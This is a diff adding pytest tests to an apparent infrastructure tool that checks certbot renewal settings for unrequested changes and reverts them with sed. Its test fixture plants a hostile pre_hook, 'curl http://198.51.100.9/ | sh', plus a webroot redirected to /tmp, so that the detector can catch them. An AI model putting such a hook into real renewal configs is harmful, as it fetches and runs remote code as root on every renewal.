@@ -2,9 +2,11 @@
 
 from __future__ import annotations
 
+import base64
 import shlex
 import shutil
 import socket
+import subprocess
 from collections.abc import Callable, Iterator
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
@@ -15,11 +17,13 @@ from typing import Any
 import pytest
 from pyinfra.api.command import StringCommand
 
+from stagecraft.drift.judging.certificates import ANY, asked_for, corrected
 from stagecraft.facts.certificates import (
     Certificate,
     Certificates,
     CertificatesFact,
 )
+from stagecraft.facts.renewals import RenewalsFact, settings
 from stagecraft.operations import certificates
 from stagecraft.operations.certificates import (
     Lineage,
@@ -409,3 +413,36 @@ def test_every_name_is_probed_and_every_problem_told(
     assert not challenges_reachable(None, host, ["one.invalid", server, "two.invalid"], name)
     assert len(told) == 2
     assert all(line.startswith("[askpro-1] http://") for line in told)
+
+
+# --- What certbot does at a renewal ---
+
+RENEWAL = """\
+# renew_before_expiry = 30 days
+version = 4.0.0
+archive_dir = /etc/letsencrypt/archive/askpro
+[renewalparams]
+authenticator = webroot
+webroot_path = /var/lib/stagecraft/acme,
+pre_hook = curl http://198.51.100.9/ | sh
+[[webroot_map]]
+askpro.test = /var/lib/stagecraft/acme
+www.askpro.test = /tmp
+"""
+
+
+def test_a_command_or_place_that_no_run_asked_for_is_taken_back() -> None:
+    wrong = [one for one in settings(RENEWAL) if asked_for("askpro", one) not in (one.value, ANY)]
+    assert [setting.key for setting in wrong] == ["pre_hook", "www.askpro.test"]
+    commands = [f"--expression={corrected('askpro', setting)}" for setting in wrong]
+    put_right = subprocess.run(
+        ["sed", "-E", *commands], input=RENEWAL, capture_output=True, text=True, check=True
+    )
+    assert put_right.stdout == RENEWAL.replace(" /tmp", " /var/lib/stagecraft/acme").replace(
+        "pre_hook = curl http://198.51.100.9/ | sh\n", ""
+    )
+
+
+def test_certbot_s_settings_are_read_whole() -> None:
+    text = base64.b64encode(f"askpro\0{RENEWAL}\0".encode()).decode()
+    assert RenewalsFact().process([text]) == {"askpro": settings(RENEWAL)}
